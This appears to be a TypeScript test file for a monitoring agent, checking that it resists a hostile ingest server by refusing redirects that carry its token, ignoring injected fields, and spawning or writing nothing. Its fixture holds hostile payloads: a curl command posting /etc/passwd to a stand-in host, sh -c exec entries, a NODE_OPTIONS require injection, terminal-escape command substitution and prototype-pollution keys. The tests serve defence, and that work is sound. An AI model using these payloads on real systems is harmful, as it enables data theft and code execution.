import { spawn } from "node:child_process";
import { mkdir, mkdtemp, rm } from "node:fs/promises";
import type { ServerResponse } from "node:http";
import { createServer, type AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { IngestEnvelope } from "../contract/ingest.ts";
import { buildAgent, NODE_FLAGS } from "./build.ts";
import { accept, reply, startEdge, type Edge } from "./edge-for-tests.ts";
import type { HttpReply } from "./http-request.ts";
import { expectOnlySpool, traceOf, type Trace } from "./process-trace-for-tests.ts";
import { outcomeOf, send } from "./sender.ts";

/** An edge that was taken over wants to make the agent do something. All it can do is to be believed about what is durable. */
const nasty = (address: string) => {
  const command = "touch owned; curl -d @/etc/passwd " + address;
  const words = ["exec", "command", "cmd", "run", "shell", "script", "eval", "code", "update", "upgrade", "download"];
  const more = [
    "url",
    "endpoint",
    "ingestUrl",
    "healthEndpoint",
    "location",
    "redirect",
    "plugin",
    "require",
    "import",
  ];
  return {
    ...Object.fromEntries([...words, ...more].map((word) => [word, word.length % 2 ? command : address])),
    commands: [{ exec: ["sh", "-c", command] }],
    config: { endpoint: address, token: "nep_other", healthEndpoint: address, intervalMs: 1, stateDirectory: "/" },
    env: { NEPHOS_ENDPOINT: address, NODE_OPTIONS: "--require /tmp/owned.js" },
    watch: { intervalMs: 1 },
    resend: [1, 2, 3],
    files: [{ path: "owned", content: command }],
    clock: { serverAt: 0, offsetMs: 1e15, message: "\u001b]0;owned\u0007$(touch owned)", exec: command },
    constructor: { prototype: { owned: true } },
    toString: address,
  };
};
const withProto = (value: object) =>
  JSON.stringify(value).replace(/^\{/, '{"__proto__":{"owned":true,"isDebug":true},');

/** A listener that nobody has a reason to speak to. */
async function startElsewhere() {
  const heard = { connections: 0 };
  const server = createServer((socket) => {
    heard.connections++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/owned`;
  return { url, heard, close: () => new Promise((resolve) => server.close(resolve)) };
}

let scratch: string;
let bundlePath: string;
let edge: Edge;
let elsewhere: Awaited<ReturnType<typeof startElsewhere>>;
beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), "nephos-hostile-"));
  ({ bundlePath } = await buildAgent(join(scratch, "built")));
});
afterAll(() => rm(scratch, { recursive: true }));
beforeEach(async () => {
  edge = await startEdge();
  elsewhere = await startElsewhere();
});
afterEach(async () => {
  await edge.close();
  await elsewhere.close();
});

describe("of a reply the agent", () => {
  const REDIRECTS = [301, 302, 303, 307, 308];

  it("reads four fields and no other, each held to its form", () => {
    const text = withProto({ durableSeq: 3, metricsIngested: 12, accepted: 1, ...nasty("http://x.example") });
    expect(outcomeOf({ status: 200, headers: {}, body: text }, 0)).toStrictEqual({
      kind: "taken",
      reply: { durableSeq: 3, metricsIngested: 12, accepted: 1, clock: "\u001b]0;owned\u0007$(touch owned)" },
    });
    const odd = JSON.stringify({ durableSeq: 3, metricsIngested: "x".repeat(9_999), accepted: {}, clock: "owned" });
    expect(outcomeOf({ status: 200, headers: {}, body: odd }, 0)).toStrictEqual({
      kind: "taken",
      reply: { durableSeq: 3, metricsIngested: 0, accepted: 0 },
    });
  });

  it.each([
    ["what an attacker would say", withProto({ durableSeq: 1, ...nasty("http://x.example") })],
    [
      "a refusal with it",
      withProto({ code: "stream_conflict", message: "m", remedy: "r", ...nasty("http://x.example") }),
    ],
    ["a number for the count of samples that is none", JSON.stringify({ durableSeq: 1e300 })],
    ["a list", "[[[]]]"],
    ["nothing", ""],
    ["depth", "[".repeat(5_000)],
  ])("makes one of five things, whatever its status, where it says %s", (_, body) => {
    const kinds = new Set<string>();
    for (let status = 100; status < 600; status++) {
      const headers: HttpReply["headers"] = { location: elsewhere.url, "retry-after": "999999999999" };
      const outcome = outcomeOf({ status, headers, body }, 0);
      kinds.add(outcome.kind);
      if (outcome.kind !== "taken") expect(outcome.why.length).toBeLessThan(1_200);
      if (outcome.kind === "away") expect(outcome.retryAfterMs).toBeLessThanOrEqual(3_600_000);
    }
    expect(["away", "locked", "refused", "stream-conflict", "taken"]).toEqual(expect.arrayContaining([...kinds]));
  });

  it.each(REDIRECTS)("does not follow a %d with its token to another host", async (status) => {
    edge.answers.push((response) => reply(response, status, { durableSeq: 1 }, { location: elsewhere.url }));
    const envelope = { instance: { id: "i" }, samples: [] } as unknown as IngestEnvelope;
    const destination = { ingestUrl: `${edge.url}/ingest`, token: "nep_secret", version: "0" };
    expect(await send(destination, envelope, 0)).toMatchObject({ kind: "locked" });
    expect(elsewhere.heard.connections).toBe(0);
    expect(edge.requests).toHaveLength(1);
  });

  it("takes one that would change the protocol for none, and goes on", async () => {
    edge.answers.push((response) => {
      response.socket?.end("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n");
    });
    const envelope = { instance: { id: "i" }, samples: [] } as unknown as IngestEnvelope;
    const destination = { ingestUrl: `${edge.url}/ingest`, token: "nep_secret", version: "0" };
    expect(await send(destination, envelope, 0)).toMatchObject({ kind: "away" });
    expect(await send(destination, envelope, 0)).toMatchObject({ kind: "taken" });
  });
});

describe.runIf(process.platform === "linux")("against a hostile edge the shipped agent", () => {
  it("sends on as before, and opens no connection, starts no program and writes no file", async () => {
    const home = join(scratch, "home");
    const state = join(home, "state");
    await mkdir(state, { recursive: true });
    const seen = new Set<number>();
    const traces: Trace[] = [];
    const [answerText, told] = [withProto(nasty(elsewhere.url)).slice(1), { text: "" }];
    const hostile: ((response: ServerResponse, envelope: IngestEnvelope) => void)[] = [
      (response, envelope) =>
        response
          .writeHead(200, { "content-type": "text/javascript", location: elsewhere.url, refresh: `0;${elsewhere.url}` })
          .end(`{"durableSeq":${envelope.samples.at(-1)!.seq},${answerText}`),
      (response) => response.writeHead(200).end(`{"durableSeq":9007199254740991,${answerText}`),
      (response) => response.writeHead(200).end(`{"durableSeq":-9,${answerText}`),
      (response, envelope) => accept(response, envelope),
      (response) => response.writeHead(200).end("[".repeat(5_000_000)),
      (response) => reply(response, 307, nasty(elsewhere.url), { location: elsewhere.url }),
    ];
    const agent = spawn(process.execPath, [...NODE_FLAGS.split(" "), bundlePath], {
      cwd: home,
      env: {
        HOME: home,
        NEPHOS_ENDPOINT: edge.url,
        NEPHOS_TOKEN: "nep_hostile_edge",
        NEPHOS_STATE_DIRECTORY: state,
        INSTANCE_ID: "i-1",
        COLLECTION_INTERVAL: "1000",
      },
    });
    for (const stream of [agent.stdout, agent.stderr]) stream.on("data", (chunk) => (told.text += String(chunk)));
    const ended = new Promise<number | null>((resolve) => agent.on("close", resolve));
    await new Promise<void>((resolve) => {
      edge.answers.push(
        ...hostile.map((answer) => (response: ServerResponse, envelope: IngestEnvelope) => {
          traces.push(traceOf(agent));
          for (const { seq } of envelope.samples) seen.add(seq);
          answer(response, envelope);
          if (edge.answers.length === 0) response.on("close", resolve);
        }),
      );
    });
    agent.kill("SIGTERM");
    expect(await ended).toBe(0);

    // After the last refusal it was told to stop, and handed in all it had kept.
    for (const { samples } of edge.envelopes) for (const { seq } of samples) seen.add(seq);
    expect(edge.envelopes.length).toBeGreaterThan(0);
    expect([...seen].sort((a, b) => a - b)).toEqual(Array.from({ length: seen.size }, (_, index) => index + 1));
    expect(edge.envelopes.every(({ instance, intervalMs }) => instance.id === "i-1" && intervalMs === 1_000)).toBe(
      true,
    );
    expect(
      new Set(edge.requests.map(({ method, path, authorization }) => `${method} ${path} ${authorization}`)),
    ).toEqual(new Set(["POST /ingest Bearer nep_hostile_edge"]));
    expect(elsewhere.heard.connections).toBe(0);
    expect(traces).toHaveLength(hostile.length);
    await expectOnlySpool(traces, { home, state, edge });
    for (const never of ["\u001b", "nep_hostile_edge"]) expect(told.text).not.toContain(never);
  });
});
